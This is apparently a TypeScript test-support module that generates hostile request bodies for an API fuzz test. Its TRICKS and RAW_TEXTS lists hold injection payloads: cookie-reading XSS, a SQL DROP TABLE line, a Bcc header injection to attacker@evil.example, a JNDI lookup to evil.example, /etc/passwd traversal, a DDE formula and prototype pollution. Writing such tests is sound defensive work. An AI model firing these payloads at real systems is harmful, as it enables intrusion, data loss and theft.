/**
 * Hostile request bodies for the API fuzz test (test/integration/security/fuzz.test.ts), shaped after each
 * route's own request schema so the input reaches past the first check: the schema's fields with hostile values
 * (unicode, control characters, huge, HTML and script, template and path tricks), type confusion, unknown
 * fields, extreme numbers, deep nesting, huge bodies, malformed JSON (NaN, Infinity, 1e400) and wrong media types.
 */
import fc from 'fast-check';
import type { $ZodType } from 'zod/v4/core';
import { defOf } from '#test/support/zod-walk.ts';

/** One request body as sent: its text and media type. */
export interface FuzzBody {
  readonly text: string;
  readonly contentType: string | undefined;
  /** The value the text encodes, when it is JSON (for checking it against the schema before sending). */
  readonly value?: unknown;
}

const CONTROL_CHARACTERS = [
  ...Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)),
  '\u007f',
  '\u0085',
  '\u00a0',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u2066',
  '\ufeff',
  '\ud800',
];

const DOLLAR = '$';
const TRICKS = [
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  "'; DROP TABLE partners; --",
  'ana@acme.example\r\nBcc: attacker@evil.example',
  '=cmd|" /C calc"!A0',
  // Template injection probes (`${...}` built from parts: it is data here, not a placeholder).
  `{{7*7}}${DOLLAR}{7*7}<%= 7*7 %>`,
  `${DOLLAR}{jndi:ldap://evil.example/a}`,
  '../../../../etc/passwd',
  '%0d%0aSet-Cookie:%20x=1',
  '__proto__',
  'constructor',
  '\u202egnp.exe',
  'ＡＣＭＥ', // full-width
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '',
  ' ',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e400',
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...TRICKS), weight: 4 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }), weight: 3 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 60 }), weight: 2 },
  { arbitrary: fc.string({ unit: fc.constantFrom(...CONTROL_CHARACTERS), maxLength: 20 }), weight: 2 },
  {
    arbitrary: fc
      .tuple(
        fc.string({ maxLength: 10 }),
        fc.constantFrom(...CONTROL_CHARACTERS),
        fc.string({ maxLength: 10 }),
      )
      .map((parts) => parts.join('')),
    weight: 2,
  },
  // Long text: past every field's maximum, far below the body limit.
  { arbitrary: fc.integer({ min: 250, max: 20_000 }).map((length) => 'x'.repeat(length)), weight: 1 },
);

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.integer({ min: -2_147_483_648, max: 2_147_483_647 }),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(-1, -0, 0.5, 0.001, 1e-7, 2 ** 53 + 2, 1e21, 1e308, -1e308, Number.MAX_SAFE_INTEGER),
);

const anyJson: fc.Arbitrary<unknown> = fc.jsonValue({ maxDepth: 3 });

/** A value shaped like `schema`, every leaf hostile or of the wrong type some of the time. */
function shapedLike(schema: $ZodType, depth: number): fc.Arbitrary<unknown> {
  const def = defOf(schema);
  const confused = (arbitrary: fc.Arbitrary<unknown>) =>
    fc.oneof(
      { arbitrary, weight: 5 },
      { arbitrary: anyJson, weight: 1 },
      { arbitrary: hostileString, weight: 1 },
    );
  if (depth > 6) return anyJson;
  switch (def.type) {
    case 'object': {
      const members = Object.fromEntries(
        Object.entries(def.shape ?? {}).map(([name, member]) => [name, shapedLike(member, depth + 1)]),
      );
      return confused(
        fc
          .tuple(
            fc.record(members, { requiredKeys: [] }),
            fc.dictionary(
              fc.oneof(hostileString, fc.constantFrom('__proto__', 'constructor', 'partnerId')),
              anyJson,
              {
                maxKeys: 3,
              },
            ),
            fc.boolean(),
          )
          .map(([known, extra, withExtra]) => (withExtra ? { ...extra, ...known } : known)),
      );
    }
    case 'array':
      return confused(
        fc.array(def.element === undefined ? anyJson : shapedLike(def.element, depth + 1), { maxLength: 12 }),
      );
    case 'string':
      return confused(hostileString);
    case 'number':
    case 'int':
    case 'bigint':
      return confused(hostileNumber);
    case 'boolean':
      return confused(fc.boolean());
    case 'enum':
      return confused(fc.oneof(fc.constantFrom(...Object.values(def.entries ?? { x: 'x' })), hostileString));
    case 'literal':
      return confused(fc.constantFrom(...(def.values ?? [null])));
    case 'union':
      return fc.oneof(...(def.options ?? []).map((option) => shapedLike(option, depth + 1)));
    case 'pipe':
      return def.in === undefined ? anyJson : shapedLike(def.in, depth);
    default:
      return def.innerType === undefined ? anyJson : shapedLike(def.innerType, depth);
  }
}

/** Request texts that are not what the schema's shape would give: broken JSON, extreme numbers, nesting, size. */
const RAW_TEXTS = [
  '',
  '{',
  '{"a":',
  'null',
  'true',
  '[]',
  '"text"',
  '{"followers": NaN}',
  '{"followers": Infinity}',
  '{"followers": -Infinity}',
  '{"followers": 1e400}',
  '{"followers": 0x10}',
  '{"followers": 1_000}',
  "{'single': 'quotes'}",
  '{"a":1,}',
  '{"__proto__":{"role":"ops"}}',
  '{"constructor":{"prototype":{"role":"ops"}}}',
  '\u0000',
  '\ufeff{}',
];

const rawBody: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...RAW_TEXTS),
  fc.string({ unit: 'binary', maxLength: 200 }),
  // Deep nesting: arrays and objects thousands of levels down.
  fc
    .tuple(fc.integer({ min: 100, max: 20_000 }), fc.boolean())
    .map(([depth, arrays]) =>
      arrays ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`,
    ),
  // Past the 64 KB body limit (and past the 256 KB webhook limit some of the time).
  fc.integer({ min: 65_000, max: 300_000 }).map((size) => JSON.stringify({ padding: 'x'.repeat(size) })),
);

const OTHER_MEDIA_TYPES = [
  undefined,
  'text/plain',
  'application/xml',
  'multipart/form-data; boundary=x',
  'application/json-patch+json',
  'application/x-www-form-urlencoded',
];

/** Hostile JSON request bodies for a route whose body is `schema` (undefined: a route with its own format). */
export function jsonBodies(schema: $ZodType | undefined): fc.Arbitrary<FuzzBody> {
  const shaped = schema === undefined ? anyJson : shapedLike(schema, 0);
  const asJson = (value: unknown): FuzzBody => ({
    text: JSON.stringify(value) ?? 'null',
    contentType: 'application/json',
    value: JSON.parse(JSON.stringify(value) ?? 'null'),
  });
  return fc.oneof(
    { arbitrary: shaped.map(asJson), weight: 8 },
    { arbitrary: anyJson.map(asJson), weight: 2 },
    { arbitrary: rawBody.map((text) => ({ text, contentType: 'application/json' })), weight: 2 },
    {
      arbitrary: fc
        .tuple(shaped, fc.constantFrom(...OTHER_MEDIA_TYPES))
        .map(([value, contentType]) => ({ text: JSON.stringify(value) ?? '', contentType })),
      weight: 1,
    },
  );
}

/** Hostile HTML form bodies: the schema's fields and others, hostile values, repeated fields, wrong media types. */
export function formBodies(schema: $ZodType | undefined): fc.Arbitrary<FuzzBody> {
  const names = Object.keys((schema === undefined ? undefined : defOf(schema).shape) ?? {});
  const field = fc.tuple(fc.oneof(fc.constantFrom(...names, 'extra'), hostileString), hostileString);
  return fc.oneof(
    {
      arbitrary: fc.array(field, { maxLength: 8 }).map((fields) => ({
        text: new URLSearchParams(fields).toString(),
        contentType: 'application/x-www-form-urlencoded',
      })),
      weight: 6,
    },
    {
      arbitrary: fc
        .tuple(rawBody, fc.constantFrom(...OTHER_MEDIA_TYPES, 'application/json'))
        .map(([text, contentType]) => ({
          text,
          contentType,
        })),
      weight: 2,
    },
  );
}
